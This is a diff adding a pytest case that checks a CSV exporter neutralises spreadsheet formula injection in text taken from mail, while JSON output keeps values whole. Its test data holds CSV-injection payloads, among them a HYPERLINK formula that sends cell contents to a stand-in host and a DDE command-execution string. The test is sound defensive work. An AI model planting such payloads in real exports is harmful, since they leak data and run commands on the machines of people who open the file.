@@ -58,6 +58,36 @@ def test_csv() -> None:
     )
 
 
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        (
+            '=HYPERLINK("http://evil.test/?"&A1)',
+            '"\'=HYPERLINK(""http://evil.test/?""&A1)"',
+        ),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3@evil.test", "'-2+3@evil.test"),
+        ("@SUM(1+1)", "'@SUM(1+1)"),
+        ("\t=1", "'\t=1"),
+        ("  =1", "'  =1"),
+        ("\uff1d1", "'\uff1d1"),  # a full-width equals sign
+        ("\r=1", "\u240d=1"),  # CR is a control picture already: inert
+        ("lead@example.com", "lead@example.com"),
+        ("a=b-c", "a=b-c"),
+        ("", ""),
+    ],
+)
+def test_csv_cells_a_spreadsheet_would_evaluate_get_an_apostrophe(
+    text: str, cell: str
+) -> None:
+    """Text from mail that begins like a formula (=, +, -, @, a tab, after any
+    spaces) is made inert with a leading apostrophe in csv; JSON keeps it whole, and
+    numbers stay numbers."""
+    rows = [{"value": text, "count": -3}]
+    assert _render(OutputFormat.csv, list(rows)) == f"value,count\n{cell},-3\n"
+    assert json.loads(_render(OutputFormat.json, list(rows))) == rows
+
+
 def test_json() -> None:
     """json: an array of objects with ISO dates and string UUIDs."""
     data = json.loads(_render(OutputFormat.json, list(ROWS)))
